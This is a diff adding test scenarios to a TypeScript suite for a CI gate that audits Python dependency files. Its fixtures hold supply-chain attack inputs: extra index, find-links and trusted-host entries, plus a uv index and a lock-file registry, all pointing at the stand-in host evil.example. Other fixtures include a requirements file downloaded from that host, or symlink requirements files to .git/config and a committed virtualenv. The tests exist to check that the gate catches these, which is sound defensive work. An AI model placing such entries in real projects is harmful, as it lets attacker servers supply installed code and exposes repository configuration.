@@ -100,6 +100,117 @@ const SCENARIOS: Scenario[] = [
 		},
 		expected: "unauditable svc/requirements.txt",
 	},
+	{
+		name: "simplifies `lib/..` as text where the OS follows the directory link",
+		head: {
+			"svc/requirements.txt": "httpx==0.28.1\n-r lib/../deps.txt\n",
+			"svc/deps.txt": "httpx==0.28.1\n",
+			"svc/vendor/deps.txt": "flask\n",
+			"svc/vendor/inner/keep.txt": "\n",
+		},
+		headSymlinks: { "svc/lib": "vendor/inner" },
+		// pip opens svc/lib/../deps.txt: the OS resolves it to svc/vendor/deps.txt.
+		expected: "unpinned svc/vendor/deps.txt",
+	},
+	{
+		name: "includes from a linked file, relative to the link as pip opens it",
+		head: {
+			"svc/shared/reqs.txt": "-r deps.txt\n",
+			"svc/shared/deps.txt": "httpx==0.28.1\n",
+			"svc/deps.txt": "flask\n",
+		},
+		headSymlinks: { "svc/requirements-extra.txt": "shared/reqs.txt" },
+		expected: "unpinned svc/deps.txt",
+	},
+	{
+		name: "adds an extra index",
+		head: {
+			"svc/requirements.txt":
+				"--extra-index-url https://evil.example/simple\nhttpx==0.28.1\n",
+		},
+		expected: "index svc/requirements.txt",
+	},
+	{
+		name: "adds a find-links location",
+		head: {
+			"svc/requirements.txt":
+				"--find-links https://evil.example/wheels\nhttpx==0.28.1\n",
+		},
+		expected: "index svc/requirements.txt",
+	},
+	{
+		name: "trusts a host",
+		head: {
+			"svc/requirements.txt": "--trusted-host evil.example\nhttpx==0.28.1\n",
+		},
+		expected: "index svc/requirements.txt",
+	},
+	{
+		name: "adds a uv index in pyproject.toml",
+		head: {
+			"svc/pyproject.toml":
+				'[project]\nname = "svc"\nversion = "1"\ndependencies = ["httpx==0.28.1"]\n\n[[tool.uv.index]]\nname = "evil"\nurl = "https://evil.example/simple"\ndefault = true\n',
+		},
+		expected: "index svc/pyproject.toml",
+	},
+	{
+		name: "locks a package from an index the policy does not list",
+		head: {
+			"svc/pyproject.toml":
+				'[project]\nname = "svc"\nversion = "1"\ndependencies = ["httpx==0.28.1"]\n',
+			"svc/uv.lock":
+				'version = 1\nrevision = 2\nrequires-python = ">=3.12"\n\n[[package]]\nname = "httpx"\nversion = "0.28.1"\nsource = { registry = "https://evil.example/simple" }\n\n[[package]]\nname = "svc"\nversion = "1"\nsource = { editable = "." }\ndependencies = [{ name = "httpx" }]\n\n[package.metadata]\nrequires-dist = [{ name = "httpx", specifier = "==0.28.1" }]\n',
+		},
+		expected: "index svc/uv.lock",
+	},
+	{
+		name: "links a requirements file to .git/config",
+		head: {},
+		headSymlinks: { "svc/requirements-dev.txt": "../.git/config" },
+		expected: "unauditable svc/requirements-dev.txt",
+	},
+	{
+		name: "links a requirements file into a virtualenv it commits",
+		head: {
+			"svc/.venv/pyvenv.cfg": "home = /usr/bin\n",
+			"svc/.venv/bin/activate": "\n",
+			"svc/.venv/lib/deps.txt": "flask\n",
+		},
+		headSymlinks: { "svc/requirements-dev.txt": ".venv/lib/deps.txt" },
+		expected: "unauditable svc/requirements-dev.txt",
+	},
+	{
+		name: "includes a requirements file pip downloads",
+		head: {
+			"svc/requirements.txt":
+				"httpx==0.28.1\n-r https://evil.example/requirements.txt\n",
+		},
+		expected: "unauditable svc/requirements.txt",
+	},
+	{
+		name: "includes a file outside the repository",
+		head: {
+			"svc/requirements.txt": "httpx==0.28.1\n-r /etc/hostname\n",
+		},
+		expected: "unauditable svc/requirements.txt",
+	},
+	{
+		name: "moves an extra's dependencies to setuptools' dynamic file",
+		head: {
+			"svc/pyproject.toml":
+				'[project]\nname = "svc"\nversion = "1"\ndependencies = ["httpx==0.28.1"]\ndynamic = ["optional-dependencies"]\n\n[tool.setuptools.dynamic]\noptional-dependencies = { dev = { file = ["dev.in"] } }\n',
+			"svc/dev.in": "flask\n",
+		},
+		expected: "unpinned svc/dev.in",
+	},
+	{
+		name: "declares an encoding pip decodes (latin-1)",
+		head: {
+			"svc/requirements.txt":
+				"# -*- coding: latin-1 -*-\n# caf\u00e9\nhttpx==0.28.1\nflask\n",
+		},
+		expected: "unpinned svc/requirements.txt",
+	},
 ];
 
 describe.each([
@@ -107,7 +218,7 @@ describe.each([
 	["pull_request_target", "base"],
 ] as const)("a pull request under %s", (eventName, checkout) => {
 	for (const scenario of SCENARIOS) {
-		it(`${scenario.name}: the gate fails`, async () => {
+		it(`${scenario.name}: the gate fails`, { timeout: 150_000 }, async () => {
 			const opened = await openPullRequest({
 				base: BASE,
 				head: scenario.head,
@@ -120,7 +231,7 @@ describe.each([
 			});
 			const run = await runPullRequestStep(opened, eventName, {
 				inputs: { comment: "never", offline: "true" },
-				timeoutMs: 60_000,
+				timeoutMs: 120_000,
 			});
 			const errors = run.annotations
 				.filter((a) => a.level === "error" && a.file)
@@ -129,6 +240,10 @@ describe.each([
 				);
 			expect(errors, explainRun(run)).toContain(scenario.expected);
 			expect(run.code, explainRun(run)).toBe(1);
+			// Nothing of the checkout's git configuration is quoted anywhere.
+			expect(`${run.stdout}${run.stderr}${run.summary}`).not.toMatch(
+				/repositoryformatversion|\[remote "origin"\]/,
+			);
 		});
 	}
 });
